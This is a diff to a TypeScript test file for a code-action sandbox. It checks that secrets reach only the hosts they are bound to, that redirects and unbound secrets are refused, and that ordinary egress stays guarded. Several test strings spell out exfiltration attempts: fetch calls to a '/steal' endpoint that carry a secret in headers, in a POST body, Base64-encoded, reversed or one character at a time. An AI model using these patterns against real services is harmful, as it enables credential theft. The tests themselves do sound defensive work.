@@ -1,7 +1,8 @@
 /**
  * Code actions through the API, on both stores: the seed's "Get User Data" action against a loopback
- * upstream, secrets from the integration and their host binding, logs and errors in the record, leaks
- * refused (SECURITY.md E08, C14), the operator's caps, and 200 hostile runs with the server answering.
+ * upstream, secrets from the integration and the hosts they bind the code to, logs and errors in the
+ * record, leaks refused (SECURITY.md E08, C14), the operator's caps, and 200 hostile runs with the
+ * server answering.
  */
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { STORE_KINDS } from '../helpers/databases.ts';
@@ -37,6 +38,7 @@ describe.each(STORE_KINDS)('code actions on %s', (kind) => {
   let integrationId: string;
   let otherSecretId: string;
   let boundSecretId: string;
+  let elsewhereSecretId: string;
 
   /** `extra.code` adds to the code config (limits); the rest goes on the action. */
   async function action(source: string, extra: Record<string, unknown> = {}) {
@@ -71,7 +73,10 @@ describe.each(STORE_KINDS)('code actions on %s', (kind) => {
       SWITCHBOARD_SANDBOX_WORKERS: '2',
       SWITCHBOARD_SANDBOX_TIMEOUT_CAP_MS: '10000',
     });
-    const token = await t.request('POST', '/v1/secrets', { body: { name: 'API_TOKEN', value: API_TOKEN } });
+    // code that can read a secret reaches only the hosts it is bound to: the upstream's, 127.0.0.2
+    const token = await t.request('POST', '/v1/secrets', {
+      body: { name: 'API_TOKEN', value: API_TOKEN, allowed_hosts: ['127.0.0.2'] },
+    });
     const otherToken = await t.request('POST', '/v1/secrets', {
       body: { name: 'OTHER', value: OTHER_TOKEN },
     });
@@ -80,6 +85,14 @@ describe.each(STORE_KINDS)('code actions on %s', (kind) => {
       body: { name: 'BOUND', value: API_TOKEN.replace('code', 'bound'), allowed_hosts: ['127.0.0.2'] },
     });
     boundSecretId = bound.body.id;
+    const elsewhere = await t.request('POST', '/v1/secrets', {
+      body: {
+        name: 'ELSEWHERE',
+        value: OTHER_TOKEN.replace('other', 'elsewhere'),
+        allowed_hosts: ['127.0.0.3'],
+      },
+    });
+    elsewhereSecretId = elsewhere.body.id;
     const integration = await t.request('POST', '/v1/integrations', {
       body: { name: 'Internal API', base_url: upstream.url, secrets: { API_TOKEN: token.body.id } },
     });
@@ -164,7 +177,8 @@ describe.each(STORE_KINDS)('code actions on %s', (kind) => {
     expect((await action(`return 1;//${'x'.repeat(39_980)}`)).status).toBe(201);
   });
 
-  it('sends a secret only to its allowed hosts, however the code carries it', async () => {
+  it('still sends a secret it visibly carries only to that secret’s own hosts, however carried', async () => {
+    // ELSEWHERE lets the code reach 127.0.0.3, but BOUND, carried there, is bound to 127.0.0.2 only
     const bound = API_TOKEN.replace('code', 'bound');
     const attempts = [
       `fetch('${other.url}/steal', { headers: { authorization: 'Bearer ' + secrets.BOUND } })`,
@@ -172,38 +186,106 @@ describe.each(STORE_KINDS)('code actions on %s', (kind) => {
       `fetch('${other.url}/steal', { method: 'POST', body: JSON.stringify({ t: secrets.BOUND }) })`,
       `fetch('${other.url}/steal', { headers: { authorization: 'Basic ' + btoa('user:' + secrets.BOUND) } })`,
     ];
+    const scope = { secrets: { BOUND: boundSecretId, ELSEWHERE: elsewhereSecretId } };
     for (const attempt of attempts) {
-      const id = await created(`const r = await ${attempt}; return r.status`, {
-        secrets: { BOUND: boundSecretId },
-      });
+      const id = await created(`const r = await ${attempt}; return r.status`, scope);
       const response = await execute(id);
       expect(response.body.status, attempt).toBe('failed');
+      expect(response.body.error.message).toMatch(/carry secret BOUND/);
       expect(response.text).not.toContain(bound);
     }
     expect(other.requests).toHaveLength(0);
     const allowed = await created(
       `const r = await fetch('${upstream.url}/users/user_123', { headers: { authorization: secrets.BOUND } }); return r.status`,
-      { secrets: { BOUND: boundSecretId } },
+      scope,
     );
     expect((await execute(allowed)).body.output).toBe(200);
+    const elsewhere = await created(
+      `const r = await fetch('${other.url}/x', { headers: { authorization: secrets.ELSEWHERE } }); return r.status`,
+      scope,
+    );
+    expect((await execute(elsewhere)).body.output).toBe(404);
   });
 
-  it('keeps a secret without allowed hosts to the integration’s host and the hosts the source names', async () => {
-    // the URL is built so that no literal in the source names 127.0.0.3
-    const host = other.url.replace('http://', '');
+  it.each([
+    ['nothing secret', `fetch(HOST + '/x')`],
+    [
+      'a secret reversed',
+      `fetch(HOST + '/x', { method: 'POST', body: [...secrets.API_TOKEN].reverse().join('') })`,
+    ],
+    [
+      'a secret one character at a time',
+      `Promise.all([...secrets.API_TOKEN.slice(0, 3)].map((c) => fetch(HOST + '/' + c)))`,
+    ],
+  ])(
+    'reaches only the hosts its secrets are bound to, whatever a request carries (%s)',
+    async (_name, call) => {
+      // the source names the host outright: that does not widen where the code may go
+      const source = `const HOST = '${other.url}'; await ${call}; return 1`;
+      const response = await action(source);
+      expect(response.status, response.text).toBe(201);
+      expect(response.body.warnings).toEqual([
+        { path: '/code/source', message: expect.stringMatching(/names 127\.0\.0\.3, which no secret/) },
+      ]);
+      const run = await execute(response.body.id);
+      expect(run.body.status).toBe('failed');
+      expect(run.body.error.message).toMatch(/may fetch only the hosts they are bound to: 127\.0\.0\.2/);
+      expect(other.requests).toHaveLength(0);
+    },
+  );
+
+  it('refuses a redirect that leaves the hosts its secrets are bound to', async () => {
     const id = await created(
-      `const r = await fetch('http://' + ${JSON.stringify(host)}, { headers: { authorization: secrets.API_TOKEN } }); return r.status`,
+      `const r = await fetch('${upstream.url}/redirect?to=' + encodeURIComponent('${other.url}/x')); return r.status`,
     );
     const response = await execute(id);
     expect(response.body.status).toBe('failed');
+    expect(response.body.error.message).toMatch(/Redirect to 127\.0\.0\.3 refused/);
     expect(other.requests).toHaveLength(0);
   });
 
-  it('sends nothing through fetch that the SSRF guard refuses', async () => {
-    const id = await created(`const r = await fetch('${canary.url}/'); return r.status`);
-    const response = await execute(id);
+  it('refuses every fetch while a secret it can read is bound to no host, saying how to bind it', async () => {
+    const unbound = await t.request('POST', '/v1/secrets', {
+      body: {
+        name: `UNBOUND_${Math.random().toString(36).slice(2, 8)}`,
+        value: 'unbound-value-0a1b2c3d4e5f',
+      },
+    });
+    const name = unbound.body.name as string;
+    const source = `const r = await fetch('${upstream.url}/users/user_123'); return r.status`;
+    const response = await action(source, { integration_id: null, secrets: { [name]: unbound.body.id } });
+    expect(response.status, response.text).toBe(201);
+    expect(response.body.warnings).toEqual([
+      {
+        path: `/secrets/${name}`,
+        message: expect.stringContaining(`PATCH /v1/secrets/${unbound.body.id} with {"allowed_hosts"`),
+      },
+    ]);
+    const refused = await execute(response.body.id);
+    expect(refused.body.status).toBe('failed');
+    expect(refused.body.error.message).toContain(
+      `secret ${name}, which is bound to no host, so it may not fetch anything. Bind the secret to the hosts it is for: PATCH /v1/secrets/${unbound.body.id} with {"allowed_hosts"`,
+    );
+    expect(upstream.requests).toHaveLength(0);
+
+    // whoever holds secrets:write binds it; the same action then reaches that host
+    await t.request('PATCH', `/v1/secrets/${unbound.body.id}`, { body: { allowed_hosts: ['127.0.0.2'] } });
+    expect((await execute(response.body.id)).body.output).toBe(200);
+  });
+
+  it('keeps the ordinary egress guard for code that can read no secret', async () => {
+    const id = await created(`const r = await fetch('${other.url}/x'); return r.status`, {
+      integration_id: null,
+    });
+    expect((await execute(id)).body.output).toBe(404);
+    expect(other.requests).toHaveLength(1);
+    const guarded = await action(`const r = await fetch('${canary.url}/'); return r.status`, {
+      integration_id: null,
+    });
+    expect(guarded.body.warnings).toEqual([]);
+    const response = await execute(guarded.body.id);
     expect(response.body.status).toBe('failed');
-    expect(response.body.error.message).toMatch(/TypeError/);
+    expect(response.body.error.message).toMatch(/TypeError: EGRESS_DENIED/);
     expect(canary.accepts).toBe(0);
   });
 
